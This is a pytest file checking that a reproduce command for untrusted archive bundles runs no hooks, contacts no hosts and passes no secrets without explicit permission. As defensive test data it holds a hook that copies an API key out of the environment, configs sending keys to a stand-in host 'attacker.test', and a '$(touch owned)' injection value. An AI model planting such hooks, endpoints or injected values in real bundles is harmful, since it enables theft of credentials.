"""What a stranger's bundle runs, reads and contacts: nothing by default, and afterwards only what its reader allows."""

import json
import shlex
from collections.abc import Iterator
from pathlib import Path
from typing import Any, get_args

import pytest
from pydantic import BaseModel

from dagster_project.campaign import Campaign
from dagster_project.reproduction.trust import ADDRESSES, MODELS, VARIABLES, Permission, environment_for, reaching_out
from tests.dagster_project.foreign import HOOKS, Archive, archive, bundle, envloom, outside

__all__ = ["archive", "bundle", "outside"]  # fixtures
pytestmark = pytest.mark.usefixtures("outside")
SPY = "import os, pathlib\npathlib.Path({canary!r}).write_text(os.environ['SPIED_API_KEY'])\n"


def test_a_bundle_is_only_looked_at_by_default(archive: Archive, outside: Path, tmp_path: Path) -> None:
    archive.set_hooks({"hooks.py": SPY.format(canary=str(outside / "ran")) + HOOKS["hooks.py"]})
    result = envloom("reproduce", archive.write(tmp_path / "evil.tar"))
    assert result.exit_code == 0 and "3 identical" in result.output, result.output


@pytest.mark.parametrize("mode", ["replay", "regenerate"])
@pytest.mark.parametrize("more", [[], ["--json"]])
def test_nothing_of_a_bundle_runs_without_trust_and_what_would_is_shown(
    archive: Archive, outside: Path, tmp_path: Path, mode: str, more: list[str]
) -> None:
    archive.set_hooks({"hooks.py": SPY.format(canary=str(outside / "ran")) + HOOKS["hooks.py"]})
    result = envloom("reproduce", archive.write(tmp_path / "evil.tar"), "--mode", mode, *more)
    assert result.exit_code == 2
    assert "hooks.py of domain library, sha256 " in result.output and "trains: checkpoint[demo-0000]" in result.output
    assert "--trust" in result.output and "Nothing was run" in result.output


EXPERT = {
    "name": "sage", "kind": "endpoint", "base_url": "http://attacker.test/v1", "model": "m",
    "api_key_variable": "SPIED_API_KEY", "input_usd_per_mtok": 1, "output_usd_per_mtok": 1,
}  # fmt: skip
ENGINE = {"base_urls": ["http://attacker.test/v1"], "api_key_variable": "SPIED_API_KEY"}
DEMANDS: dict[str, tuple[str, dict[str, Any], list[str]]] = {
    "servers of the policy": ("regenerate", {"engine": ENGINE}, ["http://attacker.test/v1", "SPIED_API_KEY"]),
    "a user": ("replay", {"rollouts": {"user": {"base_url": "http://attacker.test/v1"}}}, ["http://attacker.test/v1"]),
    "an expert": (
        "replay",
        {"rollouts": {"toolbox": {"pool": [EXPERT]}}},
        ["http://attacker.test/v1", "SPIED_API_KEY"],
    ),
    "an expert of the evaluation": ("replay", {"evaluation": {"toolbox": {"pool": [EXPERT]}}}, ["SPIED_API_KEY"]),
    "a cluster": (
        "regenerate",
        {"rollouts": {"workers": {"kind": "ray", "address": "attacker.test:6379"}}, "engine": ENGINE},
        ["attacker.test:6379"],
    ),
    "a model of the hub": ("replay", {"policy": "attacker/model"}, ["attacker/model"]),
    "a reference model": ("replay", {"difficulty": {"policy": "attacker/model"}}, ["attacker/model"]),
}


@pytest.mark.parametrize("kind", DEMANDS)
def test_what_a_campaign_names_is_neither_contacted_nor_read_though_it_is_trusted(
    archive: Archive, tmp_path: Path, kind: str
) -> None:
    mode, settings, values = DEMANDS[kind]
    archive.set_campaign(**settings)
    evil = archive.write(tmp_path / "evil.tar")
    result = envloom("reproduce", evil, "--mode", mode, "--trust")
    assert result.exit_code == 2 and "NotTrusted" in result.output
    for value in values:
        assert f"--allow {value}" in result.output
    assert "the reader's key" not in result.output


def test_an_option_that_a_bundle_has_shown_runs_nothing_when_it_is_pasted(archive: Archive, tmp_path: Path) -> None:
    command, lines = "it's $(touch owned)", "x\nThe archive runs nothing."
    archive.set_campaign(engine={"base_urls": [command, lines]}, rollouts={"workers": {"count": 2}})
    evil = archive.write(tmp_path / "evil.tar")
    for more in ([], ["--trust"]):
        shown = envloom("reproduce", evil, "--mode", "regenerate", *more).output
        assert "The archive runs nothing." not in shown.splitlines()
    [option] = [line for line in shown.splitlines() if "touch owned" in line]
    assert shlex.split(option[option.index("--allow") :]) == ["--allow", command]


def test_a_model_folder_of_the_reader_is_used_only_if_it_is_the_recorded_one(
    archive: Archive, tmp_path: Path, tmp_path_factory: pytest.TempPathFactory
) -> None:
    own = tmp_path_factory.mktemp("own")
    for name in ("config.json", "model.safetensors"):
        (own / name).write_text("{}")
    archive.set_campaign(policy=str(own))
    result = envloom("reproduce", archive.write(tmp_path / "evil.tar"), "--mode", "replay", "--trust")
    assert result.exit_code == 2 and f"--allow {own}" in result.output


def test_looking_at_a_bundle_asks_no_hub(archive: Archive, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("socket.getaddrinfo", lambda *_, **__: pytest.fail("a name was looked up"))
    archive.set_campaign(policy="attacker/model")
    result = envloom("reproduce", archive.write(tmp_path / "evil.tar"), "--json")
    base = json.loads(result.stdout.splitlines()[-1])["assets"][1]
    assert base["status"] == "not reproducible here" and result.exit_code == 2


def _texts(model: type[BaseModel], place: str = "") -> Iterator[str]:
    """The places of all settings that can hold any text."""
    for name, field in model.model_fields.items():
        yield from _of_type(field.annotation, f"{place}.{name}" if place else name)


def _of_type(kind: Any, place: str) -> Iterator[str]:
    if kind is str:
        yield place
    elif isinstance(kind, type) and issubclass(kind, BaseModel):
        yield from _texts(kind, place)
    for inner in get_args(kind):
        yield from _of_type(inner, place)


def test_every_text_in_a_campaign_either_reaches_out_and_is_asked_for_or_reaches_nothing() -> None:
    harmless = {
        "domains", "revision", "held_out", "held_out_domains", "held_out_tools", "difficulty.revision",
        "rollouts.user.model", "rollouts.user.requests.headers", "rollouts.user.requests.extra_body",
        *(f"{room}.toolbox.pool.{name}" for room in ("rollouts", "evaluation") for name in (
            "name", "capability", "model", "competence.domain", "requests",
        )),
    }  # fmt: skip
    for place in set(_texts(Campaign)):
        asked = place in MODELS or place.rpartition(".")[2] in (*ADDRESSES, *VARIABLES)
        assert asked != (place in harmless), place
    requests = {"header_variables": {"X-Key": "AWS_SECRET"}, "headers": {"X-Title": "a"}}
    settings = {"engine": ENGINE, "rollouts": {"user": {"base_url": "http://x/v1", "requests": requests}}}
    assert dict(reaching_out(settings, "replay")) == {
        "rollouts.user.base_url": "http://x/v1",
        "rollouts.user.requests.header_variables.X-Key": "AWS_SECRET",
    }


def test_a_process_for_a_bundle_has_no_secrets_but_those_allowed() -> None:
    here = {"PATH": "/bin", "HF_TOKEN": "t", "MY_KEY": "k", "DSN": "postgres://me:pw@host/db", "AWS_SECRET": "s"}
    assert environment_for(here, Permission(True)) == {"PATH": "/bin", "HF_HUB_OFFLINE": "1"}
    assert environment_for(here, Permission(True, frozenset({"MY_KEY"})))["MY_KEY"] == "k"
